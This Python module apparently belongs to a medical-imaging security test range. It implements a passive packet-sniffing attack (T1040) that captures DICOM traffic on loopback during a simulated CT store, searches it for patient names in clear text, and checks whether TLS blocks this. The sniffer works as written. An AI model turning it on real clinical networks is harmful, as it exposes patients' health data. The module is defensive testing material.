"""Cleartext PHI sniffing on the modalities' network segment while a modality stores (T1040).

Sniffing is passive: nothing can see it. Only TLS stops it: with the TLS layer on, the CT stores over DICOM
TLS to the gateway (PS3.15 B.1) and the sniffer reads encrypted records only. The attacker's foothold is the
modality segment: it reads the frames to and from the port the modalities send to (the gateway's; the
gateway-to-PACS leg runs inside the server room, on a real network another link). On the range every peer
shares the loopback interface, so the sniffer keeps only that port's frames, as the segment would show them.
"""

from __future__ import annotations

import socket
import struct
import threading
import time

from radguard.range.attacks.kit import Attack, Context, Outcome

ETH_P_ALL = 0x0003
ETH_HEADER = 14  # Linux gives loopback frames an Ethernet header
TLS_RECORD_TYPES = (0x14, 0x15, 0x16, 0x17)  # change cipher spec, alert, handshake, application data


def tcp_payload(frame: bytes, port: int) -> bytes | None:
    """The TCP payload of an IPv4 frame to or from ``port``; None for any other frame."""
    if len(frame) < ETH_HEADER + 20 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[ETH_HEADER:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != 6 or len(ip) < ihl + 20:
        return None
    src, dst = struct.unpack_from("!HH", ip, ihl)
    if port not in (src, dst):
        return None
    total = struct.unpack_from("!H", ip, 2)[0]
    offset = ihl + (ip[ihl + 12] >> 4) * 4
    return bytes(ip[offset:total])


def run(ctx: Context) -> Outcome:
    needles = [n.encode() for n in ctx.st.patient_names if n]
    port = ctx.modality_port
    seen = {"bytes": 0, "hits": 0, "frames": 0, "tls_records": 0}
    stop = threading.Event()

    def sniff() -> None:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind(("lo", 0))
        s.settimeout(0.2)
        while not stop.is_set():
            try:
                frame, addr = s.recvfrom(65535)
            except TimeoutError:
                continue
            if addr[2] == socket.PACKET_OUTGOING:  # loopback shows each frame twice: keep the incoming copy
                continue
            payload = tcp_payload(frame, port)
            if not payload:
                continue
            seen["frames"] += 1
            if payload[0] in TLS_RECORD_TYPES and payload[1] == 0x03:
                seen["tls_records"] += 1
            for n in needles:
                if n in payload:
                    seen["hits"] += 1
                    seen["bytes"] += len(n)
        s.close()

    t = threading.Thread(target=sniff, daemon=True)
    t.start()
    time.sleep(0.2)
    ds = ctx.sample()  # the victim: a modality storing a study, as it does all day
    path = ctx.tmpdir() / "victim.dcm"
    ds.save_as(path, enforce_file_format=True)
    stored = ctx.modality_store("CT01", [path])
    time.sleep(0.3)
    stop.set()
    t.join(timeout=2)
    encrypted = stored and seen["tls_records"] > 0 and seen["bytes"] == 0
    return Outcome(success=seen["bytes"] > 0, impact={"phi_bytes_exposed": seen["bytes"]},
                   note=f"{seen['frames']} frames on the modality segment (port {port}), {seen['tls_records']} TLS "
                        f"records, {seen['hits']} with a patient name in clear text",
                   blocked_by=("tls",) if encrypted else ())


ATTACK = Attack(
    name="cleartext-sniff", title="Cleartext PHI sniffing", attack_ids=("T1040",),
    precondition="a foothold on the modalities' network segment", objective="PHI bytes read off the wire",
    layers=("tls",), run=run)
